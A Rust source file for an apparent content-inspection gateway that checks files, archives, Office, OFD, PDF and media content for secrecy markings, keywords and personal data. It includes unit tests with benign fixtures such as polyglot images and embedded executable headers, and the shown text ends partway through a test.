//! The evaluator: a channel's policy over content, without opening, creating or deleting
//! any file and without talking to any service. Bytes in (a reader, or a file the shell
//! opened), a verdict out; when the policy masks personal data, the masked text is written
//! to the writer the shell gives. Archive entries that must be seekable are spilled by the
//! archive reader into the directory the shell names.
//!
//! ```text
//!  admit:    name ─► size ─► type from the first bytes ─► the name's own text
//!  evaluate: text, csv, json, xml ─► decode (UTF-8 | UTF-16 | GB18030) ─► lines ─► rules, markings,
//!                                    personal data (masked into the writer, or refused)
//!            pdf                  ─► active content; text ─► the same line rules
//!            ooxml, odf           ─► parts: macros refused; XML text ─► line rules
//!            ofd                  ─► parts: XML text ─► line rules; actions refused;
//!                                    attachments and resources judged like files
//!            legacy_office        ─► compound file: macros, encryption refused; text ─► line
//!                                    rules; embedded files judged like a file
//!            zip, tar, gzip       ─► entries, limits enforced while reading ─► each judged
//!                                    like a file (admit + evaluate)
//!            media, png, jpeg, gif ─► container structure to its end (always: a polyglot
//!                                    is refused whatever the text rules)
//! ```

use crate::content::archive::{self, Budget, Input, Kind, Limits, Visitor};
use crate::content::source::SourceCursor;
use crate::content::{Scan, apple, doc, media, ofd, ole, pdf, reach, rtf, text, utf16};
use crate::core::reason::{Reason, Refusal};
use crate::policy::{Detected, EXECUTABLE, HEAD_LEN, Policy, detect};
use std::borrow::Cow;
use std::io::{self, BufReader, BufWriter, Read, Write};
use std::path::Path;

/// Decides whether content may be judged at all: its name and size against the policy,
/// its type from its first bytes (`head`, at most `HEAD_LEN`) and its extension, and the
/// name's own text (a marking or a keyword in a name is refused like one inside).
pub fn admit(policy: &Policy, name: &str, size: u64, head: &[u8]) -> Result<Detected, Refusal> {
    policy
        .check_name(name)
        .and_then(|()| policy.check_size(size))
        .and_then(|()| policy.classify(name, head))
        .and_then(|d| {
            Lines::new(policy, false, "name: ")
                .refuse_only(name)
                .map(|()| d)
        })
}

/// Whether judging content of this type writes a masked copy: text the policy masks.
pub fn masks(policy: &Policy, detected: &Detected) -> bool {
    detected.is_text() && policy.masks()
}

/// Runs the content rules over admitted content from its start. When [`masks`] says so,
/// `masked` must be given: every line is written to it, masked where personal data was
/// found, and the number of masked lines is returned. Archive entries that need a file are
/// spilled into `spill_dir`.
///
/// # Errors
/// Reading the content or writing the masked copy or a spill failed.
pub fn evaluate(
    policy: &Policy,
    name: &str,
    detected: &Detected,
    head: &[u8],
    input: Input<'_>,
    masked: Option<&mut dyn Write>,
    spill_dir: &Path,
) -> io::Result<Result<u64, Refusal>> {
    if let Some(out) = masked.filter(|_| masks(policy, detected)) {
        let mut reader = reader_of(input);
        return scan_text_masking(policy, head, &mut reader, out);
    }
    let item = Item {
        name,
        at: "",
        detected,
        head,
    };
    let limits = policy.archives.unwrap_or(NO_ARCHIVES);
    let mut budget = Budget::new(limits);
    let mut scanner = Scanner {
        policy,
        work: spill_dir,
    };
    Ok(scanner.content(&item, input, 0, &mut budget)?.map(|()| 0))
}

/// The first `HEAD_LEN` bytes, from which the type is decided.
pub fn read_head(reader: &mut dyn Read) -> io::Result<Vec<u8>> {
    let mut head = Vec::with_capacity(HEAD_LEN);
    reader.take(HEAD_LEN as u64).read_to_end(&mut head)?;
    Ok(head)
}

/// Limits used when a policy allows no archive: any archive is refused by type before
/// these matter.
const NO_ARCHIVES: Limits = Limits {
    max_depth: 1,
    max_entries: 1,
    max_expanded_bytes: 1,
    max_ratio: 2,
    legacy_names: archive::LegacyNames::Gb18030,
};

/// Scans text, writing every line (masked where personal data was found) to `out`.
/// Returns how many lines were masked.
fn scan_text_masking(
    policy: &Policy,
    head: &[u8],
    input: &mut dyn Read,
    out: &mut dyn Write,
) -> io::Result<Result<u64, Refusal>> {
    let Some(enc) = text::sniff(head) else {
        return Ok(Err(not_text(head)));
    };
    let mut out = BufWriter::with_capacity(1 << 20, out);
    let mut lines = Lines::new(policy, true, "");
    let summary = text::scan_lines(input, enc, Some(&mut out), &mut |l| lines.check_piece(l))?;
    out.flush()?;
    Ok(summary.map(|s| s.changed_lines))
}

/// The refusal of text in an encoding the gateway does not read, saying which it seems to be.
fn not_text(head: &[u8]) -> Refusal {
    Refusal::new(Reason::TextEncoding, text::unsupported(head))
}

/// The text rules applied line by line.
struct Lines<'p> {
    policy: &'p Policy,
    mask: bool,
    at: &'p str,
    line: u64,
}

impl<'p> Lines<'p> {
    fn new(policy: &'p Policy, mask: bool, at: &'p str) -> Lines<'p> {
        Lines {
            policy,
            mask,
            at,
            line: 0,
        }
    }

    /// Checks one line: `Ok(Some(masked))` replaces it (see [`check_text`]); a refusal's
    /// detail names the line.
    fn check(&mut self, text: &str) -> Result<Option<String>, Refusal> {
        self.line += 1;
        check_text(self.policy, self.mask, text).map_err(|r| {
            Refusal::new(
                r.reason,
                format!("{}line {}: {}", self.at, self.line, r.detail),
            )
        })
    }

    /// Checks one line of a document, where nothing can be masked.
    fn refuse_only(&mut self, text: &str) -> Result<(), Refusal> {
        self.mask = false;
        self.check(text).map(|_| ())
    }

    /// [`Lines::check`] of a piece [`text::scan_lines`] hands over: a line longer than
    /// [`text::MAX_LINE`] comes in several pieces, and only the one that ends with its
    /// terminator (`\n`) ends it, so the next line's refusal names its own number.
    fn check_piece(&mut self, piece: &str) -> Result<Option<String>, Refusal> {
        let checked = self.check(piece);
        if !piece.ends_with('\n') {
            self.line -= 1;
        }
        checked
    }
}

/// Checks one text — a line of a file, a string value or object key of a message —
/// against the policy's keyword and pattern rules, classification markings and personal
/// data. The rules run over the text as written and, when it differs, over its detection
/// view (escapes decoded, invisible characters dropped, full-width forms folded), so that
/// disguised text is caught.
///
/// With `mask`, personal data is masked instead of refused: `Ok(Some(masked))` replaces
/// the text (the masked form keeps the text's length in characters; masking again changes
/// nothing); data that only the detection view reveals cannot be masked in place and is
/// refused. `Ok(None)`: the text passes unchanged.
///
/// # Errors
/// The refusal (`keyword_match`, `classification_marking`, `personal_data`); its detail
/// says what was found, not where: the caller names the place.
pub fn check_text(policy: &Policy, mask: bool, text: &str) -> Result<Option<String>, Refusal> {
    let view = text::detection_view(text);
    let forms: &[&str] = match &view {
        Cow::Owned(v) => &[text, v.as_str()],
        Cow::Borrowed(_) => &[text],
    };
    for form in forms {
        if let Some(hit) = policy.text_rules().and_then(|r| r.find(form)) {
            return Err(Refusal::new(
                Reason::KeywordMatch,
                format!("matches rule {}", hit.rule),
            ));
        }
        if let Some(hit) = policy.marking_detector().and_then(|m| m.find(form)) {
            return Err(Refusal::new(
                Reason::ClassificationMarking,
                format!("classification marking {:?}", hit.text),
            ));
        }
    }
    let Some(pii) = policy.pii_detector() else {
        return Ok(None);
    };
    let refuse = |kind: &str, how: &str| {
        Err(Refusal::new(
            Reason::PersonalData,
            format!("{kind} found{how}"),
        ))
    };
    if mask {
        let masked = pii.mask(text);
        // what the masking left must be clean in every form: data written with escapes
        // or disguised cannot be masked in place, so it is refused
        if matches!(view, Cow::Owned(_)) {
            let after = masked.as_deref().unwrap_or(text);
            if let Some(found) = pii.find(&text::detection_view(after)).first() {
                return refuse(
                    found.kind.as_str(),
                    " in an escaped or disguised form that cannot be masked",
                );
            }
        }
        return Ok(masked);
    }
    for form in forms {
        if let Some(found) = pii.find(form).first() {
            let how = if policy.masks() {
                " (masking applies to plain text, CSV, JSON and XML only)"
            } else {
                ""
            };
            return refuse(found.kind.as_str(), how);
        }
    }
    Ok(None)
}

/// A piece of content being judged: the file itself, or an entry or part inside it.
#[derive(Clone, Copy)]
struct Item<'a> {
    /// Its base name.
    name: &'a str,
    /// Where it is, for refusal details ("" for the file itself).
    at: &'a str,
    /// Its type.
    detected: &'a Detected,
    /// Its first bytes.
    head: &'a [u8],
}

/// Walks content of any allowed type, recursing into archives and packages.
struct Scanner<'p> {
    policy: &'p Policy,
    work: &'p Path,
}

impl Scanner<'_> {
    /// Scans content whose type is already decided; `depth` is the archive nesting level
    /// the content sits at (0 for the file itself).
    fn content(
        &mut self,
        item: &Item<'_>,
        input: Input<'_>,
        depth: u32,
        budget: &mut Budget,
    ) -> Scan {
        let policy = self.policy;
        let Item {
            name,
            at,
            detected,
            head,
        } = *item;
        let kind = match detected.family {
            "zip" => Some(Kind::Zip),
            "tar" => Some(Kind::Tar),
            "gzip" => Some(Kind::Gzip),
            _ => None,
        };
        if let Some(kind) = kind {
            let mut entries = Entries {
                scanner: Scanner {
                    policy,
                    work: self.work,
                },
                archive: name.to_string(),
            };
            return archive::walk(kind, input, depth + 1, budget, self.work, &mut entries);
        }
        if matches!(detected.family, "ooxml" | "odf") {
            let mut parts = Parts {
                scanner: Scanner {
                    policy,
                    work: self.work,
                },
            };
            return archive::walk(Kind::Zip, input, depth + 1, budget, self.work, &mut parts);
        }
        if media::checks(detected.family) {
            let mut reader = reader_of(input);
            return media::check(detected.family, &mut reader)
                .map(|r| r.map_err(|e| prefixed(at, e)));
        }
        if detected.family == "ofd" {
            let mut parts = OfdParts {
                scanner: Scanner {
                    policy,
                    work: self.work,
                },
                package: ofd::Package::new(),
            };
            let verdict =
                archive::walk(Kind::Zip, input, depth + 1, budget, self.work, &mut parts)?;
            return Ok(verdict.and_then(|()| parts.package.finish().map_err(|r| prefixed(at, r))));
        }
        if detected.family == "legacy_office" {
            let ext = crate::policy::extension(name).unwrap_or_default();
            let mut lines = Lines::new(policy, false, at);
            let mut sink = |l: &str| lines.refuse_only(l);
            let mut objects = Entries {
                scanner: Scanner {
                    policy,
                    work: self.work,
                },
                archive: name.to_string(),
            };
            let verdict = ole::scan_ole(
                input,
                &ext,
                policy
                    .reads_text()
                    .then_some(&mut sink as &mut crate::content::LineSink<'_>),
                &mut objects,
                depth,
                budget,
                self.work,
            )?;
            return Ok(verdict.map_err(|r| prefixed(at, r)));
        }
        if detected.is_text() {
            // text in an encoding the gateway cannot read is refused even where no rule
            // reads it: what cannot be read does not cross
            let Some(enc) = text::sniff(head) else {
                return Ok(Err(prefixed(at, not_text(head))));
            };
            // read to its end even where no rule reads it: a text that stops being text
            // (not its encoding, a control byte) after its head does not cross
            let reads_text = policy.reads_text();
            let mut lines = Lines::new(policy, false, at);
            let mut reader = reader_of(input);
            return text::scan_lines(&mut reader, enc, None::<&mut io::Sink>, &mut |l| {
                if reads_text {
                    lines.check_piece(l)?;
                }
                Ok(None)
            })
            .map(|r| r.map(|_| ()).map_err(|r| prefixed_once(at, r)));
        }
        if detected.family == "rtf" {
            // objects, templates and fetching fields are refused whatever the text rules
            let mut lines = Lines::new(policy, false, at);
            let reads_text = policy.reads_text();
            let mut reader = BufReader::new(reader_of(input));
            return rtf::scan_rtf(
                &mut reader,
                Some(&mut |l: &str| {
                    if reads_text {
                        lines.refuse_only(l)
                    } else {
                        Ok(())
                    }
                }),
            )
            .map(|v| v.map_err(|r| prefixed(at, r)));
        }
        if detected.family == "pdf" && (policy.pdf_refuse_active || policy.reads_text()) {
            let opts = pdf::PdfOptions {
                refuse_active: policy.pdf_refuse_active,
                read_text: policy.reads_text(),
                allow_uri: policy.hyperlinks == reach::Hyperlinks::Allow,
            };
            let mut lines = Lines::new(policy, false, at);
            let reads_text = policy.reads_text();
            let mut reader = reader_of(input);
            return pdf::scan_pdf(&mut reader, &opts, &mut |l| {
                if reads_text {
                    lines.refuse_only(l)
                } else {
                    Ok(())
                }
            });
        }
        Ok(Ok(()))
    }

    /// Judges a file embedded in a document (a picture, attachment, nested package, PDF …)
    /// at `path` like a file, by the type its first bytes give: an executable is refused,
    /// every type the engine reads (archives, documents, text, pictures and media, whose
    /// structure is walked to its end) is read, and anything else is handed back to the
    /// caller.
    fn embedded(
        &mut self,
        path: &str,
        at: &str,
        reader: &mut dyn Read,
        depth: u32,
        budget: &mut Budget,
    ) -> io::Result<Embedded> {
        let head = read_head(reader)?;
        let ext = crate::policy::extension(path).unwrap_or_default();
        let detected = detect(&head, &ext);
        if detected.family == EXECUTABLE {
            return Ok(Embedded::Judged(Ok(Err(Refusal::new(
                Reason::TypeRefused,
                format!("{at}an executable inside the document"),
            )))));
        }
        let read = detected.is_archive()
            || detected.is_text()
            || media::checks(detected.family)
            || matches!(
                detected.family,
                "ooxml" | "odf" | "ofd" | "pdf" | "rtf" | "legacy_office"
            );
        if !read {
            return Ok(Embedded::Other(Other {
                family: detected.family,
                resource: infer::is_image(&head) || infer::is_font(&head),
            }));
        }
        let item = Item {
            name: path.rsplit('/').next().unwrap_or(path),
            at,
            detected: &detected,
            head: &head,
        };
        Ok(Embedded::Judged(
            self.content_after_head(&item, reader, depth, budget),
        ))
    }

    /// Scans an entry or part like [`Scanner::content`] once its type is decided from
    /// `item.head`, the first bytes already read off `reader`: they are put back in front of
    /// the rest.
    fn content_after_head(
        &mut self,
        item: &Item<'_>,
        reader: &mut dyn Read,
        depth: u32,
        budget: &mut Budget,
    ) -> Scan {
        let mut whole = item.head.chain(reader);
        self.content(item, Input::Stream(&mut whole), depth, budget)
    }
}

/// The read buffer over a file input, in bytes (at most).
const READER_BUFFER: usize = 1 << 20;

/// A reader over either kind of input.
fn reader_of<'a>(input: Input<'a>) -> Box<dyn Read + 'a> {
    match input {
        Input::File(f) => {
            // no larger than the file: a buffer is zeroed before its first read, and a
            // small file then costs a small buffer
            let cap = f.size().map_or(READER_BUFFER, |n| {
                usize::try_from(n).map_or(READER_BUFFER, |n| n.clamp(4096, READER_BUFFER))
            });
            Box::new(BufReader::with_capacity(cap, SourceCursor::new(f)))
        }
        Input::Stream(s) => Box::new(s),
    }
}

/// [`prefixed`], unless the detail already names the part (the reach checks do).
fn prefixed_once(at: &str, r: Refusal) -> Refusal {
    let part = at.trim_start_matches("part ").trim_end_matches(": ");
    if r.detail.starts_with(at) || r.detail.starts_with(part) {
        r
    } else {
        prefixed(at, r)
    }
}

fn prefixed(at: &str, r: Refusal) -> Refusal {
    if at.is_empty() {
        r
    } else {
        Refusal::new(r.reason, format!("{at}{}", r.detail))
    }
}

/// Every entry of an archive is checked like a file: name, type, content, nested archives.
struct Entries<'p> {
    scanner: Scanner<'p>,
    /// The archive's own name: a gzip member without a stored name is named after it.
    archive: String,
}

impl Visitor for Entries<'_> {
    fn entry(
        &mut self,
        path: &str,
        depth: u32,
        reader: &mut dyn Read,
        budget: &mut Budget,
    ) -> Scan {
        let policy = self.scanner.policy;
        let derived;
        let path = if path.is_empty() {
            derived = gunzipped_name(&self.archive);
            derived.as_str()
        } else {
            path
        };
        let at = format!("entry {path}: ");
        let base = path.rsplit('/').next().unwrap_or(path);
        // Apple metadata is judged as what it is, not by its name's leading dot
        if let Some(kind) = apple::kind_of(path) {
            if let Err(r) = Lines::new(policy, false, &at).refuse_only(path) {
                return Ok(Err(prefixed(&at, r)));
            }
            return apple::check(kind, reader).map(|v| v.map_err(|r| prefixed(&at, r)));
        }
        let named = policy
            .check_name(base)
            .and_then(|()| Lines::new(policy, false, &at).refuse_only(path));
        if let Err(r) = named {
            return Ok(Err(prefixed(&at, r)));
        }
        let head = read_head(reader)?;
        let detected = match policy.classify(base, &head) {
            // `executable_names` allows a file by name, never one inside an archive
            Ok(d) if d.family == EXECUTABLE => {
                return Ok(Err(Refusal::new(
                    Reason::TypeRefused,
                    format!("{at}an executable inside an archive"),
                )));
            }
            Ok(d) => d,
            Err(r) => return Ok(Err(prefixed(&at, r))),
        };
        let item = Item {
            name: base,
            at: &at,
            detected: &detected,
            head: &head,
        };
        self.scanner
            .content_after_head(&item, reader, depth, budget)
    }
}

/// The name of what a gzip file holds when it does not say: `x.tar.gz` and `x.tgz` hold
/// `x.tar`, `x.gz` holds `x`.
fn gunzipped_name(archive: &str) -> String {
    let lower = archive.to_ascii_lowercase();
    if lower.ends_with(".tgz") {
        format!("{}.tar", &archive[..archive.len() - 4])
    } else if lower.ends_with(".gz") {
        archive[..archive.len() - 3].to_string()
    } else {
        format!("{archive}.data")
    }
}

/// The parts of an office package: macros refused; every XML part read as text; embedded
/// files (pictures, packages, archives, PDFs) classified and read like the file itself;
/// executables and embedded objects that cannot be read refused.
struct Parts<'p> {
    scanner: Scanner<'p>,
}

impl Visitor for Parts<'_> {
    fn entry(
        &mut self,
        path: &str,
        depth: u32,
        reader: &mut dyn Read,
        budget: &mut Budget,
    ) -> Scan {
        let policy = self.scanner.policy;
        let at = format!("part {path}: ");
        if let Some(what) = doc::active_part(path) {
            return Ok(Err(Refusal::new(
                Reason::ActiveContent,
                format!("{at}{what}"),
            )));
        }
        let lower = path.to_ascii_lowercase();
        // relationships: what the package reaches outside itself, whatever the text rules
        if lower.ends_with(".rels") {
            return utf16::xml_as_utf8(reader, path, |input| {
                reach::relationships(input, path, policy.hyperlinks)
            });
        }
        // every XML part is read: fields and links that reach outside are refused in the
        // same pass as the text rules (when the policy has any) see its text
        if lower.ends_with(".xml") || doc::is_text_part(path) {
            let mut watch = reach::Watch::new(path, policy.hyperlinks);
            let reads_text = policy.reads_text();
            let mut lines = Lines::new(policy, false, &at);
            return utf16::xml_as_utf8(reader, path, |input| {
                doc::xml_text_watched(
                    input,
                    &mut |l| {
                        if reads_text {
                            lines.refuse_only(l)
                        } else {
                            Ok(())
                        }
                    },
                    &mut watch,
                )
            })
            .map(|v| v.map_err(|r| prefixed_once(&at, r)));
        }
        let detected = match self.scanner.embedded(path, &at, reader, depth, budget)? {
            Embedded::Judged(verdict) => return verdict,
            Embedded::Other(detected) => detected,
        };
        if detected.family == "unknown"
            && (lower.contains("embeddings/") || lower.starts_with("object "))
        {
            return Ok(Err(Refusal::new(
                Reason::ContentUnreadable,
                format!("{at}an embedded object of a type that cannot be inspected"),
            )));
        }
        // fonts, printer settings
        Ok(Ok(()))
    }
}

/// The entries of an OFD package (GB/T 33190): every XML part read for its text and its
/// actions (refused as active content where the policy refuses PDF active content); every
/// other entry (attachments, images, fonts, media, signature values) classified from its
/// bytes: packages, PDFs, OFDs and text judged like files, executables refused, images and
/// fonts passed as resources, other types passed unless they are attachments.
struct OfdParts<'p> {
    scanner: Scanner<'p>,
    package: ofd::Package,
}

impl Visitor for OfdParts<'_> {
    fn entry(
        &mut self,
        path: &str,
        depth: u32,
        reader: &mut dyn Read,
        budget: &mut Budget,
    ) -> Scan {
        let policy = self.scanner.policy;
        let at = format!("part {path}: ");
        if ofd::is_xml_part(path) {
            let reads_text = policy.reads_text();
            let mut lines = Lines::new(policy, false, &at);
            let mut sink = |l: &str| {
                if reads_text {
                    lines.refuse_only(l)
                } else {
                    Ok(())
                }
            };
            let package = &mut self.package;
            let mut found = |f: ofd::Found<'_>| match f {
                ofd::Found::Action(a) if policy.pdf_refuse_active => {
                    Err(Refusal::new(Reason::ActiveContent, format!("{at}{a}")))
                }
                ofd::Found::Action(_) => Ok(()),
                ofd::Found::Attachment(location) => package.attachment(path, location),
            };
            let read = |input: &mut dyn std::io::BufRead| {
                ofd::read_part(input, &at, &mut sink, &mut found)
            };
            let info = match utf16::xml_as_utf8(reader, path, read)? {
                Ok(info) => info,
                Err(r) => return Ok(Err(r)),
            };
            return Ok(self.package.part(path, &info));
        }
        match self.scanner.embedded(path, &at, reader, depth, budget)? {
            Embedded::Judged(verdict) => verdict,
            Embedded::Other(d) if matches!(d.family, "png" | "jpeg" | "gif") || d.resource => {
                Ok(Ok(()))
            }
            // signature values, seals, media, anything else: a resource, unless listed as an
            // attachment
            Embedded::Other(_) => Ok(self.package.uninspectable_entry(path)),
        }
    }
}

/// What [`Scanner::embedded`] made of a file inside a document.
enum Embedded {
    /// Judged like a file: the verdict.
    Judged(Scan),
    /// Of a type the engine does not read (fonts, printer settings, opaque objects …): the
    /// document's own reader decides.
    Other(Other),
}

/// An embedded file the engine does not read.
struct Other {
    /// Its detected type.
    family: &'static str,
    /// Whether its first bytes are an image or a font.
    resource: bool,
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::content::archive::testing::raw_zip;

    /// The lab's outbound policy, as shipped.
    fn outbound() -> Policy {
        Policy::parse(
            Path::new("to-internet.toml"),
            include_str!("../../policy/to-internet.toml"),
        )
        .unwrap()
    }

    fn judge(policy: &Policy, name: &str, content: &[u8]) -> (Result<u64, Refusal>, Vec<u8>) {
        let head = &content[..content.len().min(HEAD_LEN)];
        let detected = match admit(policy, name, content.len() as u64, head) {
            Ok(d) => d,
            Err(r) => return (Err(r), Vec::new()),
        };
        let mut out = Vec::new();
        let mut input = content;
        let spill = std::env::temp_dir();
        let verdict = evaluate(
            policy,
            name,
            &detected,
            head,
            Input::Stream(&mut input),
            masks(policy, &detected).then_some(&mut out as &mut dyn Write),
            &spill,
        )
        .unwrap();
        (verdict, out)
    }

    /// [`judge`] of `content` read in place from a file: plain, or sealed at rest (when
    /// `sealed` holds the data keys); with the sealed file's failure, if a chunk failed.
    fn judge_in_place(
        policy: &Policy,
        name: &str,
        content: &[u8],
        sealed: Option<&crate::keys::at_rest::DataKeys>,
        tamper: Option<usize>,
    ) -> (Result<u64, Refusal>, Option<String>) {
        use crate::keys::at_rest::{SealWriter, SealedFile};
        let head = &content[..content.len().min(HEAD_LEN)];
        let detected = admit(policy, name, content.len() as u64, head).unwrap();
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("content");
        let stored = match sealed {
            Some(keys) => {
                let mut w = SealWriter::new(keys, Vec::new(), b"spool/c/1").unwrap();
                w.write_all(content).unwrap();
                w.finish().unwrap()
            }
            None => content.to_vec(),
        };
        std::fs::write(&path, &stored).unwrap();
        if let Some(at) = tamper {
            let mut bytes = stored;
            bytes[at] ^= 0x40;
            std::fs::write(&path, &bytes).unwrap();
        }
        let file = std::fs::File::open(&path).unwrap();
        let (verdict, failure) = match sealed {
            Some(keys) => {
                let f = SealedFile::open(keys, file, b"spool/c/1").unwrap();
                let v = evaluate(
                    policy,
                    name,
                    &detected,
                    head,
                    Input::File(&f),
                    None,
                    dir.path(),
                );
                (v, f.failure())
            }
            None => {
                let v = evaluate(
                    policy,
                    name,
                    &detected,
                    head,
                    Input::File(&file),
                    None,
                    dir.path(),
                );
                (v, None)
            }
        };
        (verdict.unwrap(), failure)
    }

    #[test]
    fn content_sealed_at_rest_is_judged_in_place_as_the_same_bytes_in_plaintext() {
        use crate::content::ole::testing::{doc, resident_id, xls};
        use crate::keys::at_rest::{CHUNK, DataKeys};
        let dir = tempfile::tempdir().unwrap();
        let key_file = dir.path().join("data.key");
        DataKeys::add_key(&key_file, crate::keys::suite::Suite::Gm).unwrap();
        let keys = DataKeys::load(&key_file).unwrap();
        let text = include_str!("../../policy/to-internet.toml")
            .replace("extensions = [\"pdf\",", "extensions = [\"zip\", \"pdf\",")
            .replace(
                "allow = [\"pdf\",",
                "allow = [\"zip\", \"legacy_office\", \"pdf\",",
            );
        let p = Policy::parse(Path::new("to-internet.toml"), &text).unwrap();
        // a zip over several stored chunks whose last entry holds a refused keyword, so
        // that its directory, its records and its entries are read across chunks
        let filler: Vec<u8> = (0..3 * CHUNK)
            .map(|i| b"0123456789abcdef\n"[i % 17])
            .collect();
        let stored_zip = |last: &[u8]| {
            let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
            let o = zip::write::SimpleFileOptions::default()
                .compression_method(zip::CompressionMethod::Stored);
            w.start_file("a.txt", o).unwrap();
            w.write_all(&filler).unwrap();
            w.start_file("b.txt", o).unwrap();
            w.write_all(last).unwrap();
            w.finish().unwrap().into_inner()
        };
        let zip_refused = stored_zip("不得外传".as_bytes());
        let zip_clean = stored_zip(b"fine\n");
        let id = resident_id("22010219800101123");
        let cases: [(&str, Vec<u8>); 6] = [
            ("判决书.doc", doc("判决书\r机密★10年\r")),
            ("判决书.doc", doc("判决书\r本院认为\r")),
            ("名单.xls", xls(&["姓名", &id])),
            ("a.doc", xls(&["x"])),
            ("a.zip", zip_refused),
            ("a.zip", zip_clean),
        ];
        for (name, content) in &cases {
            let streamed = judge(&p, name, content).0;
            let (plain, _) = judge_in_place(&p, name, content, None, None);
            let (sealed, failure) = judge_in_place(&p, name, content, Some(&keys), None);
            assert_eq!(plain, streamed, "{name}");
            assert_eq!(sealed, streamed, "{name}");
            assert_eq!(failure, None, "{name}");
        }
        // the verdicts differ, so the cases test something
        assert!(cases.iter().any(|(n, c)| judge(&p, n, c).0.is_ok()));
        assert!(cases.iter().any(|(n, c)| judge(&p, n, c).0.is_err()));
        // a stored chunk changed: the failure is kept, whatever the parser made of it
        let (_, failure) = judge_in_place(&p, "a.zip", &cases[5].1, Some(&keys), Some(100));
        let failure = failure.expect("the changed chunk is read");
        assert!(failure.contains("stored chunk 0"), "{failure}");
    }

    /// The outbound policy with legacy Office allowed.
    fn outbound_with_legacy_office() -> Policy {
        let text = include_str!("../../policy/to-internet.toml")
            .replace(
                "extensions = [\"pdf\",",
                "extensions = [\"doc\", \"xls\", \"ppt\", \"et\", \"pdf\",",
            )
            .replace("allow = [\"pdf\",", "allow = [\"legacy_office\", \"pdf\",");
        Policy::parse(Path::new("to-internet.toml"), &text).unwrap()
    }

    #[test]
    fn legacy_office_documents_are_read_for_the_text_rules() {
        use crate::content::ole::testing::{compound, doc, package, resident_id, xls};
        let p = outbound_with_legacy_office();
        let (verdict, _) = judge(&p, "判决书.doc", &doc("判决书\r机密★10年\r"));
        assert_eq!(verdict.unwrap_err().reason, Reason::ClassificationMarking);
        assert_eq!(judge(&p, "判决书.doc", &doc("判决书\r本院认为\r")).0, Ok(0));
        let id = resident_id("22010219800101123");
        let (verdict, _) = judge(&p, "名单.xls", &xls(&["姓名", &id]));
        let r = verdict.unwrap_err();
        assert_eq!(r.reason, Reason::PersonalData, "{r}");
        assert_eq!(judge(&p, "名单.xls", &xls(&["姓名", "张三"])).0, Ok(0));
        // a workbook named .doc, an installer named .doc
        let (verdict, _) = judge(&p, "a.doc", &xls(&["x"]));
        assert_eq!(verdict.unwrap_err().reason, Reason::TypeMismatch);
        let msi = compound(&[("\u{4840}\u{3f3f}", b"x")], &[]);
        assert_eq!(
            judge(&p, "a.doc", &msi).0.unwrap_err().reason,
            Reason::TypeMismatch
        );
        // an embedded executable, and an embedded text judged like a file
        let (word, table) = crate::content::ole::testing::word_streams("x", false, 0);
        let with = |file: &[u8]| {
            let native = package(b"a", b"C:\\a.txt", file);
            compound(
                &[
                    ("WordDocument", &word),
                    ("1Table", &table),
                    ("ObjectPool/_1/\u{1}Ole10Native", &native),
                ],
                &[],
            )
        };
        let (verdict, _) = judge(&p, "a.doc", &with(b"\x7fELF\x02\x01\x01\0\0\0"));
        assert_eq!(verdict.unwrap_err().reason, Reason::TypeRefused);
        let (verdict, _) = judge(&p, "a.doc", &with("不得外传".as_bytes()));
        let r = verdict.unwrap_err();
        assert_eq!(r.reason, Reason::KeywordMatch);
        assert!(r.detail.starts_with("entry ObjectPool/_1/a.txt: "), "{r}");
        assert_eq!(judge(&p, "a.doc", &with(b"fine\n")).0, Ok(0));
    }

    #[test]
    fn ole_objects_in_an_office_package_are_read() {
        use crate::content::ole::testing::{compound, package};
        use std::io::Cursor;
        let p = outbound_with_legacy_office();
        let docx = |object: &[u8]| {
            let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
            let o = zip::write::SimpleFileOptions::default();
            w.start_file("[Content_Types].xml", o).unwrap();
            w.write_all(b"<Types/>").unwrap();
            w.start_file("word/document.xml", o).unwrap();
            w.write_all(b"<w:document><w:p>x</w:p></w:document>")
                .unwrap();
            w.start_file("word/embeddings/oleObject1.bin", o).unwrap();
            w.write_all(object).unwrap();
            w.finish().unwrap().into_inner()
        };
        let bin = |text: &str| {
            compound(
                &[(
                    "\u{1}Ole10Native",
                    &package(b"a", b"a.txt", text.as_bytes()),
                )],
                &[],
            )
        };
        let (verdict, _) = judge(&p, "a.docx", &docx(&bin("内部资料")));
        let r = verdict.unwrap_err();
        assert_eq!(r.reason, Reason::KeywordMatch, "{r}");
        assert!(r.detail.contains("oleObject1.bin"), "{r}");
        assert_eq!(judge(&p, "a.docx", &docx(&bin("公开"))).0, Ok(0));
        // an object with nothing to inspect
        let opaque = compound(&[("\u{1}Ole", b"x")], &[]);
        let (verdict, _) = judge(&p, "a.docx", &docx(&opaque));
        assert_eq!(verdict.unwrap_err().reason, Reason::ContentUnreadable);
    }

    #[test]
    fn media_structure_is_checked_whatever_the_text_rules() {
        let p = inbound();
        assert!(!p.reads_text());
        let mut amr = b"#!AMR\n".to_vec();
        for _ in 0..2 {
            amr.push(7 << 3 | 4);
            amr.extend_from_slice(&[0x55; 31]);
        }
        assert_eq!(judge(&p, "庭审录音.amr", &amr).0, Ok(0));
        let mut zipped = amr.clone();
        zipped.extend_from_slice(b"PK\x03\x04\x14\0\0\0\0\0");
        let r = judge(&p, "庭审录音.amr", &zipped).0.unwrap_err();
        assert_eq!(r.reason, Reason::Polyglot, "{r}");
        // a JPEG with a zip after its EOI
        let mut jpeg = b"\xff\xd8\xff\xdb\x00\x43".to_vec();
        jpeg.extend_from_slice(&[0; 65]);
        jpeg.extend_from_slice(b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00\x12\x34\xff\xd9");
        assert_eq!(judge(&p, "现场照片.jpg", &jpeg).0, Ok(0));
        jpeg.extend_from_slice(b"PK\x03\x04\x14\0\0\0\0\0");
        let r = judge(&p, "现场照片.jpg", &jpeg).0.unwrap_err();
        assert_eq!(r.reason, Reason::Polyglot, "{r}");
        // inside an archive too, with the entry named
        let inner = {
            use std::io::Write as _;
            let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
            let stored = zip::write::SimpleFileOptions::default()
                .compression_method(zip::CompressionMethod::Stored);
            w.start_file("证据/照片.jpg", stored).unwrap();
            w.write_all(&jpeg).unwrap();
            w.finish().unwrap().into_inner()
        };
        let r = judge(&p, "证据.zip", &inner).0.unwrap_err();
        assert_eq!(r.reason, Reason::Polyglot, "{r}");
        assert!(r.detail.contains("照片.jpg"), "{r}");
        // a script stays an executable
